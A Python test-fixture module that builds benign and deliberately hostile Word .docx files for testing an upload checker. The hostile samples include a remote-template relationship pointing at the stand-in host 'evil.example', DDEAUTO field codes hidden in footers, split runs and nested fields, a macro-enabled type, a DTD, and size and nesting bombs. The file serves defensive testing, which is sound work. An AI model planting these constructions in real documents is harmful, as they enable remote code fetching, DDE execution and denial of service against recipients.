"""Honest and hostile .docx for the tests of uploads; each function returns bytes."""

import random
from io import BytesIO
from zipfile import ZipFile

from docx import Document

from .hostile import DOCUMENT, HEAD, PACKAGE, packed

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
BODY = "word/document.xml"


def body(content="<w:p><w:r><w:t>甲</w:t></w:r></w:p>"):
    return (
        f'{HEAD}<w:document xmlns:w="{WORD}" xmlns:r="{DOCUMENT}" xmlns:mc="http://schemas.'
        f'openxmlformats.org/markup-compatibility/2006"><w:body>{content}</w:body></w:document>'
    )


def parts(content=None, types=None):
    """The smallest document there is."""
    usual = (
        f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{BODY}" ContentType="{types or WORD_TYPE}"/></Types>'
    )
    return {
        "[Content_Types].xml": usual,
        "_rels/.rels": relation("officeDocument", BODY),
        BODY: body() if content is None else content,
    }


def relation(kind, target, outside=False):
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{DOCUMENT}/{kind}" Target="{target}"{mode}/>'
        "</Relationships>"
    )


def plain(content=None, **more):
    return packed(parts(body(content) if content is not None else None, **more).items())


def with_part(name, text="<x/>"):
    return packed([*parts().items(), (name, text)])


def related(kind, target, part="word/_rels/document.xml.rels"):
    return with_part(part, relation(kind, target, outside=True))


def remote_template(target="https://evil.example/a.dotm"):
    return related("attachedTemplate", target, "word/_rels/settings.xml.rels")


def macro_by_type():
    return plain(types="application/vnd.ms-word.document.macroEnabled.main+xml")


def bomb():
    return with_part("word/media/a.xml", "<x>" + " " * 90_000_000 + "</x>")


def with_dtd():
    text = body().replace("<w:document", '<!DOCTYPE x [<!ENTITY a "a">]><w:document', 1)
    return packed((parts() | {BODY: text}).items())


def field(*pieces):
    """A field whose code is torn into runs, as Word does."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def field_in_footer():
    code = field("DDE", r"AUTO c:\\a")
    text = f'{HEAD}<w:ftr xmlns:w="{WORD}">{code}</w:ftr>'
    return with_part("word/footer1.xml", text)


def nested_field(outer, inner, behind=""):
    """A field whose code has another one in it."""
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    runs = f"{field(outer)[:-6]}{field(inner)[5:-6]}{end}"
    return f"{runs}<w:r><w:instrText>{behind}</w:instrText></w:r>{end}</w:p>"


def field_over_two_paragraphs():
    first, second = field("INCL")[:-6], '<w:r><w:instrText>UDEPICTURE "a"</w:instrText></w:r>'
    return plain(f"{first}</w:p><w:p>{second}</w:p>")


def field_in_a_header_elsewhere():
    text = f'{HEAD}<w:hdr xmlns:w="{WORD}">{field("DDEAUTO c:")}</w:hdr>'
    return with_part("custom/header1.xml", text)


def header_called_otherwise():
    kept = parts()
    types = kept["[Content_Types].xml"].replace(
        "<Override",
        '<Override PartName="/word/header1.bin" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.header+xml"/><Override',
        1,
    )
    return packed((kept | {"[Content_Types].xml": types, "word/header1.bin": "<x/>"}).items())


def another_main_document():
    shown = {"_rels/.rels": relation("officeDocument", "word/shown.xml"), "word/shown.xml": body()}
    return packed((parts() | shown).items())


def crowded_relationships():
    """A little file with 3 MB of relationships, all harmless."""
    one = f'<Relationship Id="r" Type="{DOCUMENT}/image" Target="media/1.png"/>'
    filler = f"<!-- {random.Random(7).randbytes(40_000).hex()} -->"  # noqa: S311 - a test
    text = f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{filler}{one * 25_000}'
    return with_part("word/_rels/document.xml.rels", f"{text}</Relationships>")


def deep():
    return plain("<w:tbl>" * 100_000 + "</w:tbl>" * 100_000)


def endless():
    """A little file with more text than any report."""
    line = f"<w:p><w:r><w:t>{'长' * 1000}</w:t></w:r></w:p>"
    filler = "".join(chr(0x4E00 + n % 5000) for n in range(200))
    return plain((line + f"<w:p><w:r><w:t>{filler}</w:t></w:r></w:p>") * 2_500)


def report(*lines, tables=()):
    """An honest paper with these paragraphs, then these tables."""
    paper = Document()
    for line in lines:
        paper.add_paragraph(line)
    for rows in tables:
        table = paper.add_table(0, len(rows[0]))
        for row in rows:
            for cell, text in zip(table.add_row().cells, row, strict=True):
                cell.text = text
    file = BytesIO()
    paper.save(file)
    return file.getvalue()


def repacked(content, **changes):
    """`content` with parts replaced, by name."""
    with ZipFile(BytesIO(content)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    return packed((entries | changes).items())
